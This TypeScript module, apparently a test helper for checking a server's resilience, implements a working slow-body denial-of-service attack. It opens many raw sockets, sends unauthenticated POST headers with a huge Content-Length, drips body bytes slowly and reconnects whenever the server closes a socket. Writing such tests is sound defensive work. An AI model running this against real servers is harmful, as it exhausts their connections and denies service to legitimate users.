// A slow-body attack on a server: raw sockets that each send a request's headers with no Authorization, a large
// Content-Length and a few bytes of body, then a few more now and then; a socket the server closes opens again. Every
// answer the server gave a socket is kept.
import net from 'node:net';

export interface SlowBodyAttack {
  /** Connections opened so far (reconnections included). */
  connections(): number;
  /** Each answer the server wrote before closing a socket (status line, headers and body). */
  answers(): string[];
  stop(): void;
}

export interface SlowBodyOptions {
  url: string;
  sockets: number;
  /** The request's path (`/trpc/todos.write`). */
  path?: string;
  /** Bytes of body sent at once, and how often. */
  dripBytes?: number;
  dripEveryMs?: number;
  /** Wait before a closed socket opens again. */
  reconnectMs?: number;
}

export function slowBodyAttack(options: SlowBodyOptions): SlowBodyAttack {
  const { port, hostname } = new URL(options.url);
  const path = options.path ?? '/trpc/todos.write';
  const head = `POST ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n`;
  const open = new Set<net.Socket>();
  const answers: string[] = [];
  let connections = 0;
  let stopped = false;

  const connect = () => {
    if (stopped) return;
    connections += 1;
    let answer = '';
    const socket = net.connect(Number(port), hostname, () => socket.write(`${head}{"todos":[`));
    open.add(socket);
    const drip = setInterval(() => {
      if (socket.writable) socket.write(' '.repeat(options.dripBytes ?? 10));
    }, options.dripEveryMs ?? 5_000);
    socket.on('data', (chunk: Buffer) => (answer += chunk.toString()));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(drip);
      open.delete(socket);
      if (answer) answers.push(answer);
      if (!stopped) setTimeout(connect, options.reconnectMs ?? 250).unref();
    });
  };
  for (let i = 0; i < options.sockets; i++) connect();

  return {
    connections: () => connections,
    answers: () => answers,
    stop() {
      stopped = true;
      for (const socket of open) socket.destroy();
    },
  };
}

/** The value at quantile `q` (0..1) of some numbers. */
export function quantile(values: number[], q: number): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.max(0, Math.ceil(q * sorted.length) - 1))] ?? Number.NaN;
}
